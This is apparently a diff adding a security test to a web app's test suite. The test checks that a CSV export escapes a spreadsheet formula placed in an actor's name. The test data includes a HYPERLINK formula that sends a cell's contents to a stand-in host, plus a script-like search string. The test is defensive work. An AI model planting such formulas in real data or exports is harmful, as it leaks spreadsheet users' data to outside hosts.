@@ -118,6 +118,17 @@ describe.each(BACKENDS)('hostile text in actor fields on %s', (backend) => {
 			});
 			expect(nul.status).toBe(400);
 			expect((await nul.json()).error.message).toMatch(/notes : caractère nul/);
+
+			// A formula in a name would run in the officer's spreadsheet: the CSV export defuses it.
+			const formula = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")';
+			const edited = await fetch(`${server.url}/api/actors/${id}`, {
+				method: 'PATCH',
+				headers: { ...headers, 'content-type': 'application/json', origin: server.url },
+				body: JSON.stringify({ version: before.version + 1, changes: { sigle: formula } })
+			});
+			expect(edited.status).toBe(200);
+			const csv = await (await fetch(`${server.url}/api/actors/export?format=csv&kind=collectivite&q=${encodeURIComponent('window.__pwned=1')}`, { headers })).text();
+			expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
 		});
 
 		it('answers hostile search, filter and path parameters with a result or a 4xx, never a 500', async () => {
